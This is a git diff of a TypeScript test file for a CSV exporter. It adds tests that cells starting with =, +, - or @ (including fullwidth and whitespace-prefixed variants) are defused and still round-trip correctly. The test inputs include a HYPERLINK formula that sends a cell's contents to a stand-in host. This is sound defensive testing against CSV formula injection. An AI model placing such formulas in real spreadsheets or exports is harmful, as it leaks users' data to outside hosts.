@@ -1,7 +1,17 @@
+import fc from 'fast-check'
 import Papa from 'papaparse'
 import { describe, expect, it } from 'vitest'
 import { csvText, readingTables, resultTables } from '@core/report'
+import { textOfCell } from '@core/sheet'
 import { analysed, demoExchange } from './demo'
+
+/** Formulas behind what a sheet may skip or split at, and before what ends a line. */
+function formulaTexts(): string[] {
+  const before = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u200b', 'note;', 'note,', 'note\t', 'note|', 'note\r\n', 'note\u2028', '\'']
+  const formula = ['=HYPERLINK("http://x/?"&A1;"y")', '+1+1', '-2+3', '@SUM(A1)', '＝1+1', '＋1', '－1', '＠x']
+  const after = ['', '\n', '\r', '\u2028x', '\u2029x', '\nx']
+  return before.flatMap((one, index) => formula.map((two, at) => `${one}${two}${after[(index + at) % after.length]}`))
+}
 
 const exchange = demoExchange()
 const tables = [...readingTables(exchange), ...resultTables(exchange, analysed(exchange))]
@@ -12,7 +22,7 @@ const parsed = (fileName: string) =>
 describe('tables', () => {
   it('follow RFC 4180: CR LF at each end, one head row, every row as wide, quotes doubled', () => {
     const text = csvText({ fileName: 'x.csv', heads: ['a', 'b, c'], rows: [['say "so"', 1.5], ['two\nlines', null]] })
-    expect(text).toBe('a,"b, c"\r\n"say ""so""",1.5\r\n"two\nlines",\r\n')
+    expect(text).toBe('"a","b, c"\r\n"say ""so""",1.5\r\n"two\nlines",\r\n')
     for (const { heads, rows } of tables) {
       expect(new Set(heads).size).toBe(heads.length)
       for (const row of rows) expect(row).toHaveLength(heads.length)
@@ -21,8 +31,25 @@ describe('tables', () => {
 
   it('defuse what a sheet would run, and leave numbers alone', () => {
     expect(csvText({ fileName: 'x.csv', heads: ['a', 'b'], rows: [['=1+1', -2], ['@x', 3]] }))
-      .toBe('a,b\r\n"\'=1+1",-2\r\n"\'@x",3\r\n')
-    expect(csvText({ fileName: 'x.csv', heads: ['a'], rows: [[Infinity], [NaN]] })).toBe('a\r\n\r\n\r\n')
+      .toBe('"a","b"\r\n"\'=1+1",-2\r\n"\'@x",3\r\n')
+    expect(csvText({ fileName: 'x.csv', heads: ['a'], rows: [[Infinity], [NaN]] })).toBe('"a"\r\n\r\n\r\n')
+  })
+
+  it.each(formulaTexts())('defuse %j for a sheet that splits at any sign, and give it back', (text) => {
+    const file = csvText({ fileName: 'x.csv', heads: ['a'], rows: [[text]] })
+    const cells = (delimiter: string) => Papa.parse<string[]>(file, { delimiter, newline: '\r\n' }).data.flat()
+    const split = [...cells(','), ...file.split(/[;,|\t\r\n\u0085\u2028\u2029]/)]
+    expect(split.filter((cell) => /^"?[\s\u200b]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([])
+    expect(textOfCell(cells(',')[1]!)).toBe(text)
+  })
+
+  it('give back every text, with apostrophes and signs of its own', () => {
+    const pieces = fc.array(fc.constantFrom("'", '=', '-', ' ', ';', ',', '\r', '\n', '\t', 'a', '＝', '\u2028', '"'), { maxLength: 9 })
+    fc.assert(fc.property(pieces, (signs) => {
+      const text = signs.join('')
+      const [, cell = ''] = Papa.parse<string[]>(csvText({ fileName: 'x.csv', heads: ['a'], rows: [[text]] }), { delimiter: ',', newline: '\r\n' }).data.flat()
+      expect(textOfCell(cell)).toBe(text)
+    }), { seed: 1, numRuns: 2000 })
   })
 
   it('hold every reading', () => {
